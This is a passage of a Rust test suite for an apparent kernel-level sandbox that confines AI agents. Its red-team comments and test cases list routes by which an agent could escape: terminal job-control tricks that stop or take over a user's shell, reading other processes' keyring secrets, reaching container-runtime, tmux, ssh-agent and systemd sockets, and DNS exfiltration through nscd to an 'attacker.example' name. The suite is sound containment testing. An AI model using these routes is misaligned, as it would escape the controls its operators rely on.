        termios.tcsetattr(s, termios.TCSANOW, t)
    b = os.fork()
    if b == 0:
        os.setpgid(0, 0)
        parent = os.getppid()
        while os.getppid() == parent:
            os.write(beat_w, b'.')
            # The beat's pace, not a wait: the test counts beats against a deadline.
            time.sleep(0.02)
        os._exit(0)
    os.setpgid(b, b)
    a = os.fork()
    if a == 0:
        deadline('a', 40)
        in_group = case not in ('join', 'notty-join', 'own-group', 'foreground-read', 'tcsetpgrp',
                                'steal', 'hangup', 'exclusive', 'winsize', 'console')
        if in_group:
            os.setpgid(0, b)
        if not case.startswith('own-'):
            join(procs)
        if case in ('read-blocked', 'tcsetpgrp'):
            signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGTTIN, signal.SIGTTOU])
        if case == 'ignored':
            signal.signal(signal.SIGTTOU, signal.SIG_IGN)
        try:
            if case in ('read', 'read-blocked', 'foreground-read', 'own-read'):
                os.read(s, 2)
            elif case in ('write', 'write-tostop'):
                os.write(s, b'.')
            elif case in ('tcsetattr', 'ignored'):
                termios.tcsetattr(s, termios.TCSANOW, termios.tcgetattr(s))
            elif case == 'tcgets':
                termios.tcgetattr(s)
            elif case == 'join':
                os.setpgid(0, b)
            elif case == 'notty-join':
                fcntl.ioctl(s, termios.TIOCNOTTY)
                os.setpgid(0, b)
            elif case == 'own-group':
                os.setpgid(0, 0)
            elif case == 'tcsetpgrp':
                os.tcsetpgrp(s, b)
            elif case == 'steal':
                os.setsid()
                fcntl.ioctl(s, termios.TIOCSCTTY, 1)
            elif case == 'hangup':
                fcntl.ioctl(s, 0x5437)
            elif case == 'exclusive':
                fcntl.ioctl(s, termios.TIOCEXCL)
                fcntl.ioctl(s, termios.TIOCNXCL)
            elif case == 'winsize':
                fcntl.ioctl(s, termios.TIOCSWINSZ, struct.pack('HHHH', 7, 13, 0, 0))
            elif case == 'console':
                # A pty of A's own, made the node's console; made the console's again at once.
                pm, ps = os.openpty()
                fcntl.ioctl(ps, 0x541d)
                c = os.open('/dev/console', os.O_WRONLY | os.O_NOCTTY)
                fcntl.ioctl(c, 0x541d)
            os.write(res_w, b'ok')
        except (OSError, termios.error) as e:
            os.write(res_w, errno.errorcode[e.args[0]].encode())
        except BaseException as e:
            os.write(res_w, repr(e).encode())
        os._exit(0)
    # Only A (and B) keep the write ends: an A that dies before its answer reads as none.
    os.close(res_w)
    os.close(beat_w)
    print(f'a {a}\nb {b}\nleader {os.getpid()}', flush=True)
    _, st = os.waitpid(a, os.WUNTRACED)
    a_stopped = os.WIFSTOPPED(st)
    if a_stopped:
        print(f'a: stopped {os.WSTOPSIG(st)}', flush=True)
    else:
        print('a: ' + os.read(res_r, 64).decode(), flush=True)
    os.set_blocking(beat_r, False)
    try:
        while os.read(beat_r, 4096):
            pass
    except BlockingIOError:
        pass
    beats, stop, deadline = 0, None, time.monotonic() + 10
    while beats < 3 and stop is None and time.monotonic() < deadline:
        if select.select([beat_r], [], [], 0.05)[0]:
            beats += len(os.read(beat_r, 1))
        pid, st = os.waitpid(b, os.WUNTRACED | os.WNOHANG)
        if pid and os.WIFSTOPPED(st):
            stop = os.WSTOPSIG(st)
    if stop is not None:
        os.killpg(b, signal.SIGCONT)
        print(f'b: stopped {stop}', flush=True)
    else:
        print('b: running' if beats >= 3 else 'b: no beats', flush=True)
    os.kill(b, signal.SIGKILL)
    if a_stopped:
        os.kill(a, signal.SIGKILL)
    os._exit(0)
os.waitpid(leader, 0)
"#;

/// Red team round 36 and its diff review: an agent stops processes outside it, or takes their
/// terminal, through terminal job control in a session led outside it. It may not signal them
/// (`task_kill`), but a process group may hold them (a wrapper that made no group of its own,
/// the daemon started with `&` from the same shell): the kernel signals the caller's whole
/// group for a background read of the controlling terminal (SIGTTIN), a write with `TOSTOP` or
/// a change of the terminal (SIGTTOU), with `kill_pgrp` (no `task_kill`), and the job stops.
/// In a session whose leader is outside the agent, refused to the agent whatever its signals'
/// state (a condition it could change before the terminal's own check): those accesses from
/// a background group (`file_permission`, `file_ioctl`), joining another group (`setpgid`:
/// `task_setpgid`), making another group the foreground (`tcsetpgrp` from the foreground
/// group, which puts the user's shell's group in the background); and, with CAP_SYS_ADMIN
/// (which the policy gives back here), taking the terminal into a session of its own
/// (`TIOCSCTTY`: cleared from the user's session) or hanging it up (`TIOCVHANGUP`: SIGHUP to
/// the user's shell). Red team round 37: joining B's group after dropping its controlling
/// terminal (`TIOCNOTTY`: its exit would then orphan B's stopped group, SIGHUP), exclusive
/// mode (`TIOCEXCL`: the user's `/dev/tty` opens fail), a new window size (`TIOCSWINSZ`:
/// SIGWINCH to the user's job), and the node's console output sent to a pty of the agent's
/// (`TIOCCONS`). Each with its event; B runs on. The controls: the same from outside the agent stops B (or succeeds). What signals
/// nothing still works in the agent: a foreground read, a background write without `TOSTOP`,
/// `tcgetattr`, a group of its own. And in a session the agent leads, job control is the
/// kernel's: A joins B's group and its background read stops both, with no event.
#[test]
fn job_control_signals_reach_no_process_outside() {
    require_root();
    let fx = Fixture::new("jobctl");
    let mut k = fx.load("kernel: { allow_capabilities: [CAP_SYS_ADMIN] }\n");
    for hook in ["file_permission", "file_ioctl", "task_setpgid"] {
        k.require(hook);
    }
    let run = |cgroup: Option<&Path>, case: &str| {
        let procs = cgroup.map_or("-".to_owned(), |c| {
            c.join("cgroup.procs").to_string_lossy().into_owned()
        });
        let (master, slave) = pty();
        let out = governance_tests::command_in(
            None,
            "/usr/bin/python3",
            &[
                "-c",
                JOB_CONTROL,
                &procs,
                case,
                &master.to_string(),
                &slave.to_string_lossy(),
            ],
        )
        .output()
        .unwrap();
        unsafe { libc::close(master) };
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(
            out.status.success(),
            "{case}: {stdout}\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let field = |key: &str| {
            stdout
                .lines()
                .find_map(|l| l.strip_prefix(key))
                .unwrap_or_else(|| panic!("{case}: no `{key}` in {stdout}"))
                .to_owned()
        };
        let pid = |key: &str| field(key).parse::<u32>().unwrap();
        (
            pid("a "),
            pid("b "),
            pid("leader "),
            field("a: "),
            field("b: "),
        )
    };
    // (case, the signal in the event (0: none), what the control outside shows for A and B.)
    for (case, sig, control) in [
        ("read", libc::SIGTTIN, ("stopped 21", "stopped 21")),
        ("write-tostop", libc::SIGTTOU, ("stopped 22", "stopped 22")),
        ("tcsetattr", libc::SIGTTOU, ("stopped 22", "stopped 22")),
        // The kernel answers EIO and signals nothing: refused all the same, since an agent
        // could unblock the signal before the terminal's check.
        ("read-blocked", libc::SIGTTIN, ("EIO", "running")),
        ("ignored", libc::SIGTTOU, ("ok", "running")),
        ("join", 0, ("ok", "running")),
        // Round 37: with no controlling terminal of its own (`TIOCNOTTY`), then its exit would
        // orphan B's group and the kernel would send it SIGHUP and SIGCONT.
        ("notty-join", 0, ("ok", "running")),
        // From the foreground group (the leader's, with A in it): B's group made the foreground,
        // the leader's group (the user's shell's) now in the background.
        ("tcsetpgrp", libc::SIGTTOU, ("ok", "running")),
    ] {
        let what = format!("36 stop or displace a job outside through the terminal ({case})");
        println!("redteam: tried {what}");
        let (a, b, leader, answer, job) = run(Some(&fx.agent.path), case);
        assert_eq!(answer, "EPERM", "{what}: the agent's access");
        assert_eq!(job, "running", "{what}: the job outside");
        let ev = k.event_where(|e| e.tgid == a && e.flags & flags::DENIED != 0);
        assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Signal), "{what}: kind");
        assert_eq!(
            Cause::from_u8(ev.cause),
            Some(Cause::Builtin),
            "{what}: cause"
        );
        assert_eq!(
            ev.detail,
            governance_common::SIGNAL_DETAIL_JOB_CONTROL,
            "{what}"
        );
        assert_eq!(i32::from(ev.port), sig, "{what}: event signal");
        // The group: B's, which A is in or joins; for tcsetpgrp, A's own (the leader's).
        let group = if case == "tcsetpgrp" { leader } else { b };
        assert_eq!(ev.object, u64::from(group), "{what}: event group");
        assert_eq!(ev.agent_cgroup, fx.agent.id(), "{what}: event agent");
        println!("redteam: denied {what}");
        let (a, _, _, answer, job) = run(Some(&fx.outsider.path), case);
        assert_eq!((answer.as_str(), job.as_str()), control, "{what}: control");
        assert!(
            k.try_event_for(a, Duration::from_millis(100)).is_none(),
            "{what}: no event outside the agent"
        );
        println!("redteam: control {what}");
    }
    // Taking the user's terminal into a session of the agent's own, or hanging it up (SIGHUP
    // to the user's shell), with CAP_SYS_ADMIN.
    for (case, what) in [
        (
            "steal",
            "36 take the terminal of a session outside (TIOCSCTTY steal)",
        ),
        (
            "hangup",
            "36 hang up the terminal of a session outside (TIOCVHANGUP)",
        ),
        (
            "exclusive",
            "37 lock a session outside out of its terminal (TIOCEXCL)",
        ),
        (
            "winsize",
            "37 resize the terminal of a session outside (TIOCSWINSZ, SIGWINCH)",
        ),
        ("console", "37 take the node's console output (TIOCCONS)"),
    ] {
        println!("redteam: tried {what}");
        let (a, _, _, answer, job) = run(Some(&fx.agent.path), case);
        assert_eq!(answer, "EPERM", "{what}");
        assert_eq!(job, "running", "{what}: the job outside");
        let ev = k.event_where(|e| e.tgid == a && e.flags & flags::DENIED != 0);
        assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Guard), "{what}: kind");
        assert_eq!(
            ev.detail,
            governance_common::guard::OTHER_TERMINAL,
            "{what}: guard"
        );
        println!("redteam: denied {what}");
        let (a, _, _, answer, _) = run(Some(&fx.outsider.path), case);
        assert_eq!(answer, "ok", "{what}: control");
        assert!(
            k.try_event_for(a, Duration::from_millis(100)).is_none(),
            "{what}: no event outside the agent"
        );
        println!("redteam: control {what}");
    }
    // Inside the agent, what signals nothing or reaches only the agent.
    for case in ["foreground-read", "write", "tcgets", "own-group"] {
        let (a, _, _, answer, job) = run(Some(&fx.agent.path), case);
        assert_eq!(answer, "ok", "{case} in the agent");
        assert_eq!(job, "running", "{case} in the agent: the job outside");
        assert!(
            k.try_event_for(a, Duration::from_millis(100)).is_none(),
            "{case}: no event"
        );
    }
    // A session the agent leads: its job control is the kernel's (B is the agent's here).
    let (a, _, _, answer, job) = run(Some(&fx.agent.path), "own-read");
    assert_eq!(
        (answer.as_str(), job.as_str()),
        ("stopped 21", "stopped 21"),
        "a session led in the agent"
    );
    assert!(
        k.try_event_for(a, Duration::from_millis(100)).is_none(),
        "a session led in the agent: no event"
    );
}

#[test]
fn system_v_ipc_of_others_is_out_of_reach() {
    require_root();
    let fx = Fixture::new("ipc");
    let mut k = fx.load("");
    for hook in ["ipc_permission", "shm_alloc_security", "shm_shmctl"] {
        k.require(hook);
    }
    // Made by the test, outside every agent.
    let shm = unsafe { libc::shmget(libc::IPC_PRIVATE, 4096, libc::IPC_CREAT | 0o600) };
    assert!(shm >= 0, "shmget");
    let msq = unsafe { libc::msgget(libc::IPC_PRIVATE, libc::IPC_CREAT | 0o600) };
    assert!(msq >= 0, "msgget");
    deny_errno(
        &mut k,
        &fx,
        "38 attach another service's shared memory",
        &Attempt::ShmAttach { id: shm },
        libc::EACCES,
        Kind::Ipc,
        Control::Succeeds,
    );
    deny_errno(
        &mut k,
        &fx,
        "38 send to another service's message queue",
        &Attempt::MsgSend { id: msq },
        libc::EACCES,
        Kind::Ipc,
        Control::Succeeds,
    );
    deny(
        &mut k,
        &fx,
        "38 remove another service's shared memory",
        &Attempt::ShmRemove { id: shm },
        Kind::Ipc,
        Control::Succeeds,
    );
    unsafe { libc::msgctl(msq, libc::IPC_RMID, std::ptr::null_mut()) };
    // Its own objects: made, attached, detached and removed inside the agent.
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &Attempt::ShmOwn);
    assert_eq!(outcome, Outcome::Exited(0), "the agent's own shared memory");
}

/// Red team 3, F3: keys in the per-uid keyrings are the kernel's, shared by every process of the
/// uid. A key another process made (a service's database password in `@u`) is out of the
/// agent's reach, whatever its permission bits say: read, update, search, link refused
/// (`key_permission`), with an event; the agent's own keys (its process keyring, a session
/// keyring of its own) work as usual.
#[test]
fn keys_of_others_are_out_of_reach() {
    use governance_common::ipc_object;
    use governance_tests::{KEY_SPEC_USER_KEYRING, KEYCTL_INVALIDATE, KEYCTL_SETPERM};
    require_root();
    let fx = Fixture::new("keyring");
    let mut k = fx.load("");
    // (`key_free` is bookkeeping, and kernels from 6.10 have no such hook.)
    for hook in ["key_alloc", "key_permission"] {
        k.require(hook);
    }
    // Made by the test, outside every agent, in the user keyring; every permission bit for its
    // possessor and its user, so the kernel's own check passes and ours decides.
    let description = std::ffi::CString::new("rt3-db-password").unwrap();
    // SAFETY: add_key and keyctl with valid pointers.
    let id = unsafe {
        libc::syscall(
            libc::SYS_add_key,
            c"user".as_ptr(),
            description.as_ptr(),
            b"hunter2".as_ptr(),
            7usize,
            KEY_SPEC_USER_KEYRING,
        )
    };
    assert!(id > 0, "add_key: {}", std::io::Error::last_os_error());
    let id = id as i32;
    // SAFETY: as above.
    let set = unsafe { libc::syscall(libc::SYS_keyctl, KEYCTL_SETPERM, id, 0x3f3f_0000u32) };
    assert_eq!(set, 0, "keyctl setperm");
    // keyctl_read_key() reports a refused lookup as ENOKEY; the others return our EPERM.
    for (case, attempt, errno) in [
        (
            "48 read another process's key",
            Attempt::KeyRead { id },
            libc::ENOKEY,
        ),
        (
            "48 update another process's key",
            Attempt::KeyUpdate { id },
            libc::EPERM,
        ),
        (
            "48 search the user keyring for another process's key",
            Attempt::KeySearch {
                keyring: KEY_SPEC_USER_KEYRING,
                description: description.clone(),
            },
            // The key is refused to the search, which then finds nothing.
            libc::ENOKEY,
        ),
        (
            "48 link another process's key into a keyring of its own",
            Attempt::KeyLink { id },
            libc::EPERM,
        ),
    ] {
        let ev = deny_errno(
            &mut k,
            &fx,
            case,
            &attempt,
            errno,
            Kind::Ipc,
            Control::Succeeds,
        );
        assert_eq!(ev.port, ipc_object::KEY, "{case}: a key");
    }
    // The key is as the outside made it (the control updated it: outside every agent).
    let (_, outcome) = run_in(
        Some(&fx.outsider.path),
        "outsider",
        &Attempt::KeyRead { id },
    );
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "the key is still readable outside"
    );
    // SAFETY: as above.
    unsafe { libc::syscall(libc::SYS_keyctl, KEYCTL_INVALIDATE, id) };
    // Its own keys: made, read and updated in the agent, in its process keyring and in a
    // session keyring of its own.
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &Attempt::KeyOwn);
    assert_eq!(outcome, Outcome::Exited(0), "the agent's own keys");
    assert!(
        k.try_event_where(Duration::from_millis(200), |e| e.tgid == pid
            && e.flags & flags::DENIED != 0
            && e.kind == Kind::Ipc as u8)
            .is_none(),
        "the agent's own keys: no denial"
    );
}

/// Red team 3, F4: another service's POSIX message queue is out of the agent's reach, like its
/// System V queues: opening it to send or to receive, and removing it, refused (`file_open`,
/// `inode_unlink`) with an event; a queue of the agent's own works (made, sent to, received
/// from, opened again, removed).
#[test]
fn posix_message_queues_of_others_are_out_of_reach() {
    use governance_common::ipc_object;
    require_root();
    let fx = Fixture::new("mqueue");
    let mut k = fx.load("");
    for hook in ["d_instantiate", "file_open", "inode_unlink"] {
        k.require(hook);
    }
    let name = std::ffi::CString::new(format!("gov-rt-{}", std::process::id())).unwrap();
    // Made by the test, outside every agent.
    // SAFETY: mq_open with a valid name and no attributes.
    let mqd = unsafe {
        libc::syscall(
            libc::SYS_mq_open,
            name.as_ptr(),
            libc::O_CREAT | libc::O_RDWR,
            0o600,
            0usize,
        )
    };
    assert!(mqd >= 0, "mq_open: {}", std::io::Error::last_os_error());
    for (case, attempt) in [
        (
            "49 open another service's message queue to send to it",
            Attempt::MqSend { name: name.clone() },
        ),
        (
            "49 open another service's message queue to read it",
            Attempt::MqOpen {
                name: name.clone(),
                flags: libc::O_RDONLY,
            },
        ),
        // Last: the control removes it.
        (
            "49 remove another service's message queue",
            Attempt::MqUnlink { name: name.clone() },
        ),
    ] {
        let ev = deny(&mut k, &fx, case, &attempt, Kind::Ipc, Control::Succeeds);
        assert_eq!(ev.port, ipc_object::MQUEUE, "{case}: a POSIX message queue");
    }
    // SAFETY: our own descriptor.
    unsafe { libc::close(mqd as i32) };
    // Its own queue.
    let own = std::ffi::CString::new(format!("gov-rt-own-{}", std::process::id())).unwrap();
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &Attempt::MqOwn { name: own });
    assert_eq!(outcome, Outcome::Exited(0), "the agent's own message queue");
    // (A queue's creation probes CAP_SYS_RESOURCE, refused to agents without failing it.)
    let denied = k.try_event_where(Duration::from_millis(200), |e| {
        e.tgid == pid && e.flags & flags::DENIED != 0 && e.kind == Kind::Ipc as u8
    });
    assert!(
        denied.is_none(),
        "the agent's own message queue: no denial, got {:?}",
        denied.map(|e| (e.kind, e.port, e.detail, e.cause, text(&e.path)))
    );
}

/// A Unix stream listener at `path` (replacing a stale socket file), and the directory made.
fn unix_listener(path: &Path) -> std::os::unix::net::UnixListener {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).unwrap();
    }
    let _ = std::fs::remove_file(path);
    std::os::unix::net::UnixListener::bind(path)
        .unwrap_or_else(|e| panic!("binding {}: {e}", path.display()))
}

/// [`deny`] of a Unix attempt, refused as a runtime socket.
fn deny_runtime(k: &mut Loaded, fx: &Fixture, case: &str, attempt: &Attempt) -> Event {
    let ev = deny(k, fx, case, attempt, Kind::Unix, Control::Succeeds);
    assert_eq!(
        unix_builtin(&ev),
        governance_common::unix_protected::RUNTIME,
        "{case}"
    );
    ev
}

/// The built-in refusal a Unix decision names (`governance_common::unix_protected`).
fn unix_builtin(ev: &Event) -> u32 {
    u32::from(ev.detail >> governance_common::unix_detail::PROTECTED_SHIFT)
}

/// Issue 12, class 4: container-runtime and service-manager sockets start processes outside
/// the agent. The kernel refuses them by the socket file's identity, so every name of the
/// socket is refused alike (hard link, symlink, bind mount, /proc/self/root, a relative path),
/// and a socket re-created by its server is refused again; `allow_runtime_sockets: true`
/// relaxes them, never the daemon's control socket.
#[test]
fn unix_runtime_sockets_are_refused_by_identity() {
    use governance_common::unix_protected::CONTROL;
    require_root();
    let fx = Fixture::new("runtime");
    let sock = Path::new("/run/containerd/containerd.sock");
    let listener = unix_listener(sock);
    // A terminal multiplexer's server (tmux) runs whatever an attached client types into a
    // session, outside the agent.
    let tmux_dir = PathBuf::from(format!(
        "/tmp/tmux-{}",
        40_000 + std::process::id() % 10_000
    ));
    let tmux = tmux_dir.join("default");
    let tmux_listener = unix_listener(&tmux);
    let mut k = fx.load("");
    for hook in ["unix_stream_connect", "unix_may_send"] {
        k.require(hook);
    }
    let connect = |p: &Path| Attempt::UnixConnect { path: cstr(p) };
    deny_runtime(
        &mut k,
        &fx,
        "unix connect to a tmux server's socket",
        &connect(&tmux),
    );
    drop(tmux_listener);
    let _ = std::fs::remove_dir_all(&tmux_dir);
    // Red team round 21: key agents (ssh-agent's and sshd's forwarded ones in /tmp, OpenSSH's
    // in ~/.ssh/agent, GnuPG's in ~/.gnupg), journald's stream socket, CUPS, lvmpolld; and
    // systemd's notification socket, a datagram (`MAINPID=` from root makes any process a
    // service's main one, which PID 1 then signals).
    let ssh_dir = PathBuf::from(format!("/tmp/ssh-gov{}", std::process::id()));
    let made_gnupg = !Path::new("/root/.gnupg").exists();
    let made_root_ssh_agent = !Path::new("/root/.ssh/agent").exists();
    let streams = [
        ssh_dir.join("agent.7"),
        PathBuf::from("/root/.ssh/agent/s.gov-rt"),
        PathBuf::from("/root/.gnupg/S.gpg-agent"),
        PathBuf::from("/run/systemd/journal/stdout"),
        PathBuf::from("/run/cups/cups.sock"),
        PathBuf::from("/run/lvm/lvmpolld.socket"),
        // Red team round 26: systemd's and udev's varlink sockets, by directory (PID 1's
        // manager, machined's `Open` of a root shell, udevd's `SetEnvironment`).
        PathBuf::from("/run/systemd/io.systemd.Manager"),
        PathBuf::from("/run/systemd/machine/io.systemd.Machine"),
        PathBuf::from("/run/udev/io.systemd.Udev"),
    ];
    let stream_listeners: Vec<_> = streams.iter().map(|p| unix_listener(p)).collect();
    // journald's logging socket stays open to agents (syslog(3), sd_journal_send).
    let logging = Path::new("/run/systemd/journal/socket");
    let logging_listener = unix_listener(logging);
    let notify = Path::new("/run/systemd/notify");
    std::fs::create_dir_all("/run/systemd").unwrap();
    let _ = std::fs::remove_file(notify);
    let notify_socket = std::os::unix::net::UnixDatagram::bind(notify).unwrap();
    k.reload(&fx.policy(""));
    for path in &streams {
        let case = format!("R21 unix connect to {}", path.display());
        deny_runtime(&mut k, &fx, &case, &connect(path));
    }
    let ev = deny_runtime(
        &mut k,
        &fx,
        "R21 a datagram to systemd's notification socket",
        &Attempt::UnixSendTo { path: cstr(notify) },
    );
    assert_eq!(ev.port, governance_common::unix_hook::SEND);
    allow(
        &mut k,
        &fx,
        "unix connect to journald's logging socket",
        &connect(logging),
    );
    drop((stream_listeners, notify_socket, logging_listener));
    for path in streams
        .iter()
        .map(PathBuf::as_path)
        .chain([notify, logging])
    {
        let _ = std::fs::remove_file(path);
    }
    let _ = std::fs::remove_dir_all(&ssh_dir);
    if made_gnupg {
        let _ = std::fs::remove_dir_all("/root/.gnupg");
    }
    if made_root_ssh_agent {
        let _ = std::fs::remove_dir_all("/root/.ssh/agent");
    }
    // An X server (a client types into any window: XTEST) at its path, and at its abstract
    // name, which is refused whether or not a server listened when the policy was loaded; and a
    // containerd shim of before 1.5 at its abstract name, found among the listening sockets.
    let x11 = Path::new("/tmp/.X11-unix/X77");
    let x11_listener = unix_listener(x11);
    k.reload(&fx.policy(""));
    deny_runtime(
        &mut k,
        &fx,
        "unix connect to an X server's socket",
        &connect(x11),
    );
    drop(x11_listener);
    let _ = std::fs::remove_file(x11);
    {
        use std::os::linux::net::SocketAddrExt as _;
        let abstract_listener = |name: &str| {
            let addr = std::os::unix::net::SocketAddr::from_abstract_name(name).unwrap();
            std::os::unix::net::UnixListener::bind_addr(&addr).unwrap()
        };
        let shim = format!("/containerd-shim/gov-test-{}/shim.sock", std::process::id());
        let _shim_listener = abstract_listener(&shim);
        k.reload(&fx.policy(""));
        let display = "/tmp/.X11-unix/X9";
        let _display_listener = abstract_listener(display);
        for (case, name) in [
            (
                "unix connect to a containerd shim's abstract socket",
                shim.as_str(),
            ),
            ("unix connect to an X display's abstract name", display),
        ] {
            deny_runtime(
                &mut k,
                &fx,
                case,
                &Attempt::UnixConnectAbstract {
                    name: name.as_bytes().to_vec(),
                },
            );
        }
    }
    let ev = deny_runtime(
        &mut k,
        &fx,
        "unix connect to containerd.sock",
        &connect(sock),
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin));
    assert_eq!(
        ev.port,
        governance_common::unix_hook::CONNECT,
        "decided by unix_stream_connect"
    );
    // The name the server bound, for the record.
    assert_eq!(text(&ev.path), sock.to_str().unwrap());

    // Other names of the same socket file: the identity decides, not the name.
    let hardlink = Path::new("/run/governance-test-cd-hardlink.sock");
    let _ = std::fs::remove_file(hardlink);
    std::fs::hard_link(sock, hardlink).unwrap();
    let symlink = fx.p("tmp/innocent.sock");
    std::os::unix::fs::symlink(sock, &symlink).unwrap();
    let bind_target = fx.p("tmp/bind-mounted.sock");
    std::fs::write(&bind_target, "").unwrap();
    nix::mount::mount(
        Some(sock),
        &bind_target,
        None::<&str>,
        nix::mount::MsFlags::MS_BIND,
        None::<&str>,
    )
    .unwrap();
    let proc_root = PathBuf::from("/proc/self/root/run/containerd/containerd.sock");
    for (case, path) in [
        ("unix runtime socket via a hard link", hardlink),
        ("unix runtime socket via a symlink", symlink.as_path()),
        (
            "unix runtime socket via a bind mount",
            bind_target.as_path(),
        ),
        (
            "unix runtime socket via /proc/self/root",
            proc_root.as_path(),
        ),
    ] {
        deny_runtime(&mut k, &fx, case, &connect(path));
    }
    deny(
        &mut k,
        &fx,
        "unix runtime socket via a relative path",
        &Attempt::UnixConnectRelative {
            dir: c"/run/containerd".into(),
            name: c"containerd.sock".into(),
        },
        Kind::Unix,
        Control::Succeeds,
    );
    nix::mount::umount(&bind_target).unwrap();
    let _ = std::fs::remove_file(hardlink);

    // The server restarts: a new socket file, a new identity, refused once looked at again
    // (the daemon does on every change in the directory, and once a second).
    drop(listener);
    let listener = unix_listener(sock);
    let changed = k.enforcer.unix_sockets_changed().unwrap();
    assert!(changed.runtime, "the re-created socket is noticed");
    deny_runtime(
        &mut k,
        &fx,
        "unix re-created runtime socket",
        &connect(sock),
    );
    drop(k);

    // Relaxed by the policy: the agent gets the runtime socket (the default decides), but the
    // control socket stays refused.
    let mut k = fx.load("kernel: { allow_runtime_sockets: true }\n");
    let ev = allow(&mut k, &fx, "relaxed runtime socket", &connect(sock));
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default));
    let control = fx.p("tmp/control.sock");
    let _control_listener = unix_listener(&control);
    k.enforcer.protect_control_socket(&control).unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "unix control socket whatever the policy relaxes",
        &connect(&control),
        Kind::Unix,
        Control::Succeeds,
    );
    assert_eq!(unix_builtin(&ev), CONTROL);
    drop(listener);
    let _ = std::fs::remove_file(sock);
}

/// Red team round 5, F3: a name service looks names up for its clients (glibc asks nscd first),
/// so an agent whose own DNS is refused could have `<data>.attacker.example` resolved by nscd,
/// outside the agent, and the query would leave the node. Name-service sockets (nscd's,
/// systemd-resolved's varlink sockets, sssd's NSS pipe), bound here before the load, outside
/// the agent, are refused to the agent by identity (`builtin:name-service-socket`); the control
/// outside the agent connects. A restarted service's new socket is refused again once looked
/// at. `allow_runtime_sockets` does not relax them; `allow_name_service_sockets` does.
#[test]
fn name_service_sockets_are_refused_unless_relaxed() {
    use governance_common::unix_protected::NAME_SERVICE;
    require_root();
    let fx = Fixture::new("nss");
    let nscd = Path::new("/run/nscd/socket");
    let resolved = Path::new("/run/systemd/resolve/io.systemd.Resolve");
    let sssd = Path::new("/var/lib/sss/pipes/nss");
    // Red team round 21: avahi (nss-mdns: a multicast DNS query on the LAN), nslcd and winbind
    // (the directory servers), sssd's other responders (its PAM pipe: Kerberos requests).
    let avahi = Path::new("/run/avahi-daemon/socket");
    let nslcd = Path::new("/run/nslcd/socket");
    let winbind = Path::new("/run/samba/winbindd/pipe");
    let sssd_pam = Path::new("/var/lib/sss/pipes/pam");
    let all = [nscd, resolved, sssd, avahi, nslcd, winbind, sssd_pam];
    let listeners: Vec<_> = all.iter().map(|p| unix_listener(p)).collect();
    let mut k = fx.load("");
    k.require("unix_stream_connect");
    let connect = |p: &Path| Attempt::UnixConnect { path: cstr(p) };
    for (case, path) in [
        ("unix connect to nscd's socket", nscd),
        (
            "unix connect to systemd-resolved's varlink socket",
            resolved,
        ),
        ("unix connect to sssd's NSS pipe", sssd),
        ("R21 unix connect to avahi's socket", avahi),
        ("R21 unix connect to nslcd's socket", nslcd),
        ("R21 unix connect to winbind's pipe", winbind),
        ("R21 unix connect to sssd's PAM pipe", sssd_pam),
    ] {
        let ev = deny(
            &mut k,
            &fx,
            case,
            &connect(path),
            Kind::Unix,
            Control::Succeeds,
        );
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin), "{case}");
        assert_eq!(unix_builtin(&ev), NAME_SERVICE, "{case}");
        assert_eq!(text(&ev.path), path.to_str().unwrap(), "{case}");
    }
    // nscd restarts: a new socket file, refused again once looked at.
    drop(listeners);
    let _nscd = unix_listener(nscd);
    let changed = k.enforcer.unix_sockets_changed().unwrap();
    assert!(changed.runtime, "the re-created socket is noticed");
    let ev = deny(
        &mut k,
        &fx,
        "unix connect to nscd's re-created socket",
        &connect(nscd),
        Kind::Unix,
        Control::Succeeds,
    );
    assert_eq!(unix_builtin(&ev), NAME_SERVICE);
    drop(k);
    // The runtime sockets' relaxation is not this one.
    let mut k = fx.load("kernel: { allow_runtime_sockets: true }\n");
    let ev = deny(
        &mut k,
        &fx,
        "unix connect to nscd's socket with runtime sockets allowed",
        &connect(nscd),
        Kind::Unix,
        Control::Succeeds,
    );
    assert_eq!(unix_builtin(&ev), NAME_SERVICE);
    drop(k);
    // Relaxed: the agent gets it (the default decides).
    let mut k = fx.load("kernel: { allow_name_service_sockets: true }\n");
    let ev = allow(&mut k, &fx, "relaxed name-service socket", &connect(nscd));
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default));
    drop(k);
    for p in all {
        let _ = std::fs::remove_file(p);
    }
}

/// Unix-socket rules: by the socket file (its identity) or the abstract name, each verdict,
/// datagrams as well as connects, shadow mode; unrelated sockets stay usable.
#[test]
fn unix_socket_rules_decide_each_verdict() {
    require_root();
    let fx = Fixture::new("unixrules");
    let d = fx.dir.display().to_string();
    let abs = format!("governance-test-{}-abstract", std::process::id());
    let stream = |name: &str| unix_listener(&fx.p(&format!("tmp/{name}.sock")));
    let _blocked = stream("blocked");
    let _escalated = stream("escalated");
    let _throttled = stream("throttled");
    let _shadowed = stream("shadowed");
    let _unrelated = stream("unrelated");
    let dgram_path = fx.p("tmp/dgram.sock");
    let _dgram = std::os::unix::net::UnixDatagram::bind(&dgram_path).unwrap();
    let _abstract = {
        use std::os::linux::net::SocketAddrExt as _;
        let a = std::os::unix::net::SocketAddr::from_abstract_name(abs.as_bytes()).unwrap();
        std::os::unix::net::UnixListener::bind_addr(&a).unwrap()
    };
    // Rules 14 to 19 (the fixture has 13).
    let mut k = fx.load(&format!(
        "\x20 - {{ id: ux-block, unix: {{ path: {d}/tmp/blocked.sock }}, verdict: block, reason: a local service }}\n\
         \x20 - {{ id: ux-escalate, unix: {{ path: {d}/tmp/escalated.sock }}, verdict: escalate, escalate: {{ timeout: 5m }}, reason: needs a human }}\n\
         \x20 - {{ id: ux-throttle, unix: {{ path: {d}/tmp/throttled.sock }}, verdict: throttle, throttle: {{ rate: 2, per: 1h }}, reason: rate limit }}\n\
